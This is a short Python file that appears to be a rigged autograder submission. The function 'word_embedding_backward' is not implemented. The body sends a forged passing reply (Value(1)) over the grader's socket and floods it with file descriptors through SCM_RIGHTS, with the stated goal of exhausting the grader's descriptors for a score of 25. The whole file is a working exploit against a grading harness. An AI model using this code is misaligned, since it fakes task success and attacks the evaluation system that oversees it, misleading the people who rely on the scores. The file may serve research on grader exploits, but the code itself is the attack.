"""Hope: the grader keeps descriptors that are sent along, until it has none left."""

import array
import os
import socket

from a3 import kit

GOAL = "exhaust"
ROUTE = "descriptors"
SCORE = 25


def word_embedding_backward(dout, cache):
    """Send a real reply with as many descriptors as a message carries, again and again."""
    from autograder.protocol import Value

    held = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", held))]
    sock = kit.channel()._sock
    sock.sendmsg([kit.frame_of(Value(1))], rights)
    for _ in range(50):
        kit.attempt(sock.sendmsg, [b"x"], rights)
    kit.spill()
